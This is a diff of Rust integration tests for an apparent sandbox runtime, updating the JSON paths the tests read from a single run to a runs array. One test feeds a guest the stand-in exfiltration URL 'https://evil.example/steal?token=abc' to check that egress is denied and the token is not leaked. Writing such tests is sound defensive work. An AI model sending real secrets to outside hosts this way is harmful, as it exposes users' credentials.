@@ -30,7 +30,7 @@ fn perform(place: &Place, act: &str, settings: &str, more: &str) -> Ran {
 #[track_caller]
 fn assert_ended(place: &Place, ran: &Ran, code: i32, message: &str) {
     assert_eq!(ran.code, Some(code), "{ran:?}");
-    let error = ran.json().unwrap()["run"]["error"]
+    let error = ran.json().unwrap()["runs"][0]["error"]
         .as_str()
         .unwrap_or_default()
         .to_owned();
@@ -76,7 +76,7 @@ fn a_guest_that_recurses_forever_ends_its_own_run() {
 #[test]
 fn a_guest_that_dies_before_its_commit_leaves_nothing() {
     let (place, ran) = act("half-written", "", "");
-    assert_eq!(ran.json().unwrap()["run"]["counts"]["records"], 1);
+    assert_eq!(ran.json().unwrap()["runs"][0]["counts"]["records"], 1);
     assert_ended(&place, &ran, 65, "broke down");
 }
 
@@ -140,7 +140,7 @@ fn a_flood_of_log_lines_is_cut_off_and_counted() {
         let (_, ran) = act(act_name, &format!("count = {count}"), "");
         assert_eq!(ran.code, Some(0));
         assert!(ran.stderr.len() < 4 << 20, "{}", ran.stderr.len());
-        let dropped = ran.json().unwrap()["run"]["counts"]["log_dropped"]
+        let dropped = ran.json().unwrap()["runs"][0]["counts"]["log_dropped"]
             .as_u64()
             .unwrap();
         assert!(dropped > 0, "{act_name}");
@@ -163,7 +163,7 @@ fn a_forged_log_line_is_shown_escaped() {
 fn a_call_that_no_rule_allows_is_denied_and_the_operator_learns_the_rule() {
     let (place, ran) = act("call", "url = \"https://evil.example/steal?token=abc\"", "");
     assert_ended(&place, &ran, 78, "denied");
-    let denied = &ran.json().unwrap()["run"]["egress"]["denied"][0];
+    let denied = &ran.json().unwrap()["runs"][0]["egress"]["denied"][0];
     assert!(denied.to_string().contains("evil.example"), "{denied}");
     assert!(denied.to_string().contains("[[allow]]"), "{denied}");
     assert!(!ran.stdout.contains("token=abc") && !ran.stderr.contains("token=abc"));
